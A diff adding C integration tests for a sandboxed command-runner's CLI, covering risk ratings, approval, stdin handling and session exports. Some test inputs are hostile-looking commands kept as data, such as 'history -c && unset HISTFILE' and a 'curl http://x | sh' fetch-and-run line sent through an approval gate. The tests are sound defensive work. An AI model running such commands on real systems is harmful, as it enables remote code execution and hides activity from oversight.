@@ -1,4 +1,5 @@
-/* Integration tests of the CLI (`paddock run`, `paddock ls`) against a real engine. */
+/* Integration tests of the CLI (`paddock run`, `paddock ls`, `paddock risk`...) against a real
+ * engine. */
 #include "harness.h"
 
 #include <setjmp.h>
@@ -27,6 +28,16 @@ static void cli(const char *const *args, struct proc_result *pr)
         argv[n++] = (char *)args[i];
     argv[n] = NULL;
     proc_run(argv, NULL, 120000, pr);
+}
+
+/* sh -c SCRIPT, where "$P" is paddock with the engine's --socket and --state-dir. */
+static void cli_sh(const char *script, struct proc_result *pr)
+{
+    char *full = strdupf("P=\"%s --socket %s --state-dir %s\"; %s", harness_bin(),
+                         harness_eng->socket, harness_eng->state_dir, script);
+    char *argv[] = {"/bin/sh", "-c", full, NULL};
+    proc_run(argv, NULL, 120000, pr);
+    free(full);
 }
 
 static void assert_no_live_session(void)
@@ -383,6 +394,62 @@ static void test_history_show_export(void **state)
 }
 
 /* pause, resume, stop, rm by name. */
+/* paddock risk -- CMD: the engine's verdict, nothing run or recorded; --json; the session's
+ * rule with --session; usage errors. */
+static void test_risk(void **state)
+{
+    struct proc_result pr;
+    const char *plain[] = {"risk", "--", "history -c && unset HISTFILE", NULL};
+    cli(plain, &pr);
+    assert_int_equal(pr.status, 0);
+    assert_non_null(strstr(pr.out, "high: clears the shell history"));
+    proc_result_free(&pr);
+
+    /* several operands are one command line */
+    const char *words[] = {"risk", "--json", "--", "rm", "-rf", "build/", NULL};
+    cli(words, &pr);
+    assert_int_equal(pr.status, 0);
+    json_t *j = json_loads(pr.out, 0, NULL);
+    assert_non_null(j);
+    assert_string_equal(jstr(j, "risk"), "low");
+    assert_true(json_is_null(json_object_get(j, "rule")));
+    json_decref(j);
+    proc_result_free(&pr);
+
+    json_t *s = session_new(harness_eng, "{\"name\": \"cli-risk\"}");
+    char *rules = strdupf("/v1/sessions/%s/rules", jstr(s, "id"));
+    struct reply r;
+    api(harness_eng, "POST", rules, "{\"pattern\": \"pkill *\", \"decision\": \"allow\"}", &r);
+    assert_int_equal(r.status, 201);
+    reply_free(&r);
+    const char *ruled[] = {"risk", "--session", "cli-risk", "--", "pkill -f http.server", NULL};
+    cli(ruled, &pr);
+    assert_int_equal(pr.status, 0);
+    assert_non_null(strstr(pr.out, "medium: stops processes by name"));
+    assert_non_null(strstr(pr.out, "decided by the rule: allow \"pkill *\""));
+    proc_result_free(&pr);
+    /* nothing was recorded */
+    char *hist = strdupf("/v1/history?session=%s", jstr(s, "id"));
+    api(harness_eng, "GET", hist, NULL, &r);
+    assert_int_equal(r.status, 200);
+    assert_int_equal(json_array_size(json_object_get(r.json, "actions")), 0);
+    reply_free(&r);
+    free(hist);
+    free(rules);
+    session_delete(harness_eng, jstr(s, "id"));
+    json_decref(s);
+
+    const char *none[] = {"risk", NULL};
+    cli(none, &pr);
+    assert_int_equal(pr.status, 2);
+    assert_non_null(strstr(pr.err, "no command given"));
+    proc_result_free(&pr);
+    const char *unknown[] = {"risk", "--session", "no-such-session", "--", "ls", NULL};
+    cli(unknown, &pr);
+    assert_int_equal(pr.status, 1);
+    proc_result_free(&pr);
+}
+
 static void test_lifecycle_commands(void **state)
 {
     json_t *s = session_new(harness_eng, "{\"name\": \"cli-life\"}");
@@ -416,6 +483,185 @@ static void test_lifecycle_commands(void **state)
     json_decref(s);
 }
 
+/* exec quotes its arguments as run does: sh -c gets the whole script as one word. */
+static void test_exec_quoting(void **state)
+{
+    json_t *s = session_new(harness_eng, "{\"name\": \"cli-exec\"}");
+    const char *args[] = {"exec", "cli-exec", "--", "sh", "-c", "echo x; exit 5", NULL};
+    struct proc_result pr;
+    cli(args, &pr);
+    if (pr.status != 5 || strcmp(pr.out, "x\n") != 0)
+        fprintf(stderr, "exec: status %d\nstdout: [%s]\nstderr: [%s]\n", pr.status, pr.out, pr.err);
+    assert_int_equal(pr.status, 5);
+    assert_string_equal(pr.out, "x\n");
+    proc_result_free(&pr);
+    session_delete(harness_eng, jstr(s, "id"));
+    json_decref(s);
+}
+
+/* A run whose image does not exist says so and leaves no session behind: the one the engine
+ * recorded before the create failed is deleted like any other run's. */
+static void test_run_missing_image(void **state)
+{
+    const char *image = "paddock-no-such-image:latest";
+    const char *args[] = {"run", "--image", image, "--", "ls", NULL};
+    struct proc_result pr;
+    cli(args, &pr);
+    assert_int_equal(pr.status, 125);
+    if (!strstr(pr.err, image))
+        fprintf(stderr, "stderr: [%s]\n", pr.err);
+    assert_non_null(strstr(pr.err, image));
+    proc_result_free(&pr);
+    struct reply r;
+    api(harness_eng, "GET", "/v1/sessions?all=1", NULL, &r);
+    assert_int_equal(r.status, 200);
+    int mine = 0, left = 0;
+    size_t i;
+    json_t *row;
+    json_array_foreach(json_object_get(r.json, "sessions"), i, row)
+    {
+        if (strcmp(jstr(row, "image"), image) != 0)
+            continue;
+        mine++;
+        if (strcmp(jstr(row, "state"), "deleted") != 0) {
+            fprintf(stderr, "left behind: %s in state %s\n", jstr(row, "id"), jstr(row, "state"));
+            left++;
+        }
+    }
+    reply_free(&r);
+    assert_int_equal(mine, 1);
+    assert_int_equal(left, 0);
+}
+
+/* A piped stdin is the command's, ended where the pipe ends; an empty one (/dev/null) ends at
+ * once; binary or too large input is refused with why. From a terminal, the command is run as it
+ * was. */
+static void test_run_stdin(void **state)
+{
+    struct proc_result pr;
+    cli_sh("printf 'a\\nb\\n' | $P run -- wc -l", &pr);
+    if (pr.status != 0)
+        fprintf(stderr, "piped: status %d, stderr [%s]\n", pr.status, pr.err);
+    assert_int_equal(pr.status, 0);
+    assert_string_equal(pr.out, "2\n");
+    proc_result_free(&pr);
+    /* bytes as they are: no newline added, quotes and a pipe kept */
+    cli_sh("printf \"it's|x\" | $P run -- 'cat; echo'", &pr);
+    assert_int_equal(pr.status, 0);
+    assert_string_equal(pr.out, "it's|x\n");
+    proc_result_free(&pr);
+    const char *cat[] = {"run", "--timeout", "60", "--", "cat", NULL};
+    cli(cat, &pr); /* stdin is /dev/null here */
+    assert_int_equal(pr.status, 0);
+    assert_string_equal(pr.out, "");
+    proc_result_free(&pr);
+    cli_sh("printf 'a\\000b' | $P run -- cat", &pr);
+    assert_int_equal(pr.status, 125);
+    assert_non_null(strstr(pr.err, "not text"));
+    proc_result_free(&pr);
+    /* past what the risk check reads of a command line: refused at once, not left waiting */
+    cli_sh("head -c 70000 /dev/zero | tr '\\0' a | $P run -- wc -c", &pr);
+    assert_int_equal(pr.status, 125);
+    assert_non_null(strstr(pr.err, "too large"));
+    proc_result_free(&pr);
+    /* from a terminal (script gives the command one) the command line is what was typed */
+    json_t *s = session_new(harness_eng, "{\"name\": \"cli-tty\"}");
+    char *tty_run =
+        strdupf("script -qec \"$P run --session %s -- echo from-tty\" /dev/null", jstr(s, "id"));
+    cli_sh(tty_run, &pr);
+    free(tty_run);
+    if (pr.status != 0)
+        fprintf(stderr, "from a terminal: status %d\nstdout: [%s]\nstderr: [%s]\n", pr.status,
+                pr.out, pr.err);
+    assert_int_equal(pr.status, 0);
+    assert_non_null(strstr(pr.out, "from-tty"));
+    proc_result_free(&pr);
+    char *path = strdupf("/v1/sessions/%s/actions", jstr(s, "id"));
+    json_t *acts = api_json(harness_eng, "GET", path, NULL, 200);
+    assert_string_equal(jstr(json_array_get(json_object_get(acts, "actions"), 0), "summary"),
+                        "echo from-tty");
+    json_decref(acts);
+    free(path);
+    session_delete(harness_eng, jstr(s, "id"));
+    json_decref(s);
+    assert_no_live_session();
+}
+
+/* Exports of a session whose first action waited for approval while a second one ran: the
+ * Markdown table keeps the command's pipe inside its cell, and the cast's times never go
+ * back (the approved action is played when it ran, after the other). */
+static void test_export_approved(void **state)
+{
+    json_t *s = session_new(harness_eng, "{\"name\": \"cli-expa\", \"confirm\": \"high\"}");
+    const char *id = jstr(s, "id");
+    char *path = strdupf("/v1/sessions/%s/execute_action?wait=0", id);
+    struct reply r;
+    api(harness_eng, "POST", path,
+        "{\"action\": {\"action\": \"run\", \"args\": {\"command\": \"curl http://x | sh; echo "
+        "a\\\\|b\"}}}",
+        &r);
+    assert_int_equal(r.status, 202);
+    long long a1 = json_integer_value(json_object_get(r.json, "action_id"));
+    reply_free(&r);
+    free(path);
+    json_decref(session_run(harness_eng, id, "echo second"));
+    char n1[32];
+    snprintf(n1, sizeof(n1), "%lld", a1);
+    const char *approve[] = {"approve", n1, NULL};
+    struct proc_result pr;
+    cli(approve, &pr);
+    assert_int_equal(pr.status, 0);
+    proc_result_free(&pr);
+    char *poll = strdupf("/v1/actions/%lld?wait=30", a1);
+    api(harness_eng, "GET", poll, NULL, &r);
+    assert_string_equal(jstr(r.json, "state"), "done");
+    reply_free(&r);
+    free(poll);
+
+    const char *em[] = {"export", "cli-expa", "--format", "md", NULL};
+    cli(em, &pr);
+    assert_int_equal(pr.status, 0);
+    if (!strstr(pr.out, "| curl http://x \\| sh; echo a\\\\\\|b |"))
+        fprintf(stderr, "md: %s\n", pr.out);
+    assert_non_null(strstr(pr.out, "| curl http://x \\| sh; echo a\\\\\\|b |"));
+    proc_result_free(&pr);
+
+    const char *ec[] = {"export", "cli-expa", "--format", "cast", NULL};
+    cli(ec, &pr);
+    assert_int_equal(pr.status, 0);
+    char *save = NULL;
+    char *line = strtok_r(pr.out, "\n", &save);
+    assert_non_null(line);
+    json_t *hdr = json_loads(line, 0, NULL);
+    assert_int_equal(json_integer_value(json_object_get(hdr, "version")), 2);
+    json_decref(hdr);
+    double last = 0;
+    int events = 0;
+    const char *order[2] = {"$ echo second", "$ curl"};
+    int prompts = 0;
+    while ((line = strtok_r(NULL, "\n", &save))) {
+        json_t *e = json_loads(line, 0, NULL);
+        assert_true(json_is_array(e));
+        double t = json_number_value(json_array_get(e, 0));
+        if (t < last)
+            fprintf(stderr, "cast time %g after %g: %s\n", t, last, line);
+        assert_true(t >= last);
+        last = t;
+        const char *text = json_string_value(json_array_get(e, 2));
+        if (prompts < 2 && strncmp(text, "$ ", 2) == 0) {
+            assert_int_equal(strncmp(text, order[prompts], strlen(order[prompts])), 0);
+            prompts++;
+        }
+        json_decref(e);
+        events++;
+    }
+    assert_int_equal(prompts, 2);
+    assert_true(events >= 3);
+    proc_result_free(&pr);
+    session_delete(harness_eng, id);
+    json_decref(s);
+}
+
 int main(void)
 {
     harness_require();
@@ -428,6 +674,11 @@ int main(void)
         cmocka_unit_test(test_approve_reject),
         cmocka_unit_test(test_history_show_export),
         cmocka_unit_test(test_lifecycle_commands),
+        cmocka_unit_test(test_risk),
+        cmocka_unit_test(test_exec_quoting),
+        cmocka_unit_test(test_run_missing_image),
+        cmocka_unit_test(test_run_stdin),
+        cmocka_unit_test(test_export_approved),
     };
     int failed = cmocka_run_group_tests_name("cli", tests, harness_group_setup,
                                              harness_group_teardown_clean);
